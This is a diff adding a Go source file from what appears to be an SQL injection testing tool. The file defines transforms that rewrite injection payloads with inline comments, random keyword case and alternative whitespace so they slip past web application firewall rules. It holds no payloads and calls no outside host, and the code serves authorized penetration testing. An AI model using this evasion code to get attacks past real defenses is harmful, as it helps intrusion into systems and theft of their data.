@@ -0,0 +1,131 @@
+package payloads
+
+import (
+	"math/rand"
+	"regexp"
+	"strings"
+)
+
+// Transform rewrites a payload into an equivalent form that may slip past WAF rules
+type Transform struct {
+	Name  string
+	Apply func(payload string) string
+}
+
+// Obfuscator holds the transforms tried, in order, when payloads get blocked
+type Obfuscator struct {
+	transforms []Transform
+}
+
+// NewObfuscator creates an Obfuscator with the default transforms
+func NewObfuscator() *Obfuscator {
+	return &Obfuscator{transforms: DefaultTransforms()}
+}
+
+// DefaultTransforms returns the built-in transforms, from least to most invasive
+func DefaultTransforms() []Transform {
+	return []Transform{
+		{Name: "inline-comments", Apply: InlineComments},
+		{Name: "random-case", Apply: RandomCase},
+		{Name: "whitespace", Apply: AlternativeWhitespace},
+		{Name: "random-case+inline-comments", Apply: func(p string) string {
+			return InlineComments(RandomCase(p))
+		}},
+	}
+}
+
+// AddTransform registers an extra transform, tried after the existing ones
+func (o *Obfuscator) AddTransform(t Transform) {
+	o.transforms = append(o.transforms, t)
+}
+
+// Len returns the number of transforms
+func (o *Obfuscator) Len() int {
+	return len(o.transforms)
+}
+
+// Name returns the name of transform i
+func (o *Obfuscator) Name(i int) string {
+	return o.transforms[i].Name
+}
+
+// Apply rewrites payload with transform i
+func (o *Obfuscator) Apply(payload string, i int) string {
+	return o.transforms[i].Apply(payload)
+}
+
+// InlineComments replaces spaces with /**/ outside string literals
+func InlineComments(payload string) string {
+	return outsideLiterals(payload, func(s string) string {
+		return strings.ReplaceAll(s, " ", "/**/")
+	})
+}
+
+// whitespaceAlternatives are characters SQL parsers accept as token separators
+var whitespaceAlternatives = []string{"\t", "\n", "\r", "\x0b", "\x0c"}
+
+// AlternativeWhitespace replaces spaces with other whitespace outside string literals
+func AlternativeWhitespace(payload string) string {
+	return outsideLiterals(payload, func(s string) string {
+		var b strings.Builder
+		for _, r := range s {
+			if r == ' ' {
+				b.WriteString(whitespaceAlternatives[rand.Intn(len(whitespaceAlternatives))])
+				continue
+			}
+			b.WriteRune(r)
+		}
+		return b.String()
+	})
+}
+
+var wordPattern = regexp.MustCompile(`\b[A-Za-z_]+\b`)
+
+// caseInsensitiveWords are keywords and functions used by the payloads. Only these
+// are randomized: identifiers may be case-sensitive (e.g. MySQL table names on Linux).
+var caseInsensitiveWords = map[string]bool{
+	"SELECT": true, "FROM": true, "WHERE": true, "AND": true, "OR": true, "NOT": true,
+	"NULL": true, "IS": true, "IN": true, "LIKE": true, "EXISTS": true, "AS": true,
+	"CASE": true, "WHEN": true, "THEN": true, "ELSE": true, "END": true,
+	"ORDER": true, "BY": true, "LIMIT": true, "OFFSET": true, "TOP": true,
+	"ROWS": true, "FETCH": true, "NEXT": true, "ONLY": true, "FIRST": true,
+	"ASCII": true, "UNICODE": true, "SUBSTR": true, "SUBSTRING": true, "MID": true,
+	"LENGTH": true, "LEN": true, "CHAR_LENGTH": true, "COUNT": true, "CAST": true,
+	"CONVERT": true, "COALESCE": true, "IFNULL": true, "ISNULL": true, "NVL": true,
+}
+
+// RandomCase randomizes the letter case of SQL keywords outside string literals
+func RandomCase(payload string) string {
+	return outsideLiterals(payload, func(s string) string {
+		return wordPattern.ReplaceAllStringFunc(s, func(word string) string {
+			if !caseInsensitiveWords[strings.ToUpper(word)] {
+				return word
+			}
+			letters := []byte(word)
+			for i, c := range letters {
+				if c != '_' && rand.Intn(2) == 0 {
+					letters[i] = c ^ 0x20 // flip ASCII case
+				}
+			}
+			return string(letters)
+		})
+	})
+}
+
+// outsideLiterals applies fn to the parts of payload outside single-quoted literals
+func outsideLiterals(payload string, fn func(string) string) string {
+	var b strings.Builder
+	parts := strings.Split(payload, "'")
+	for i, part := range parts {
+		if i > 0 {
+			b.WriteByte('\'')
+		}
+		// Even parts are outside quotes; '' escapes toggle twice and stay consistent
+		if i%2 == 0 {
+			b.WriteString(fn(part))
+		} else {
+			b.WriteString(part)
+		}
+	}
+	return b.String()
+}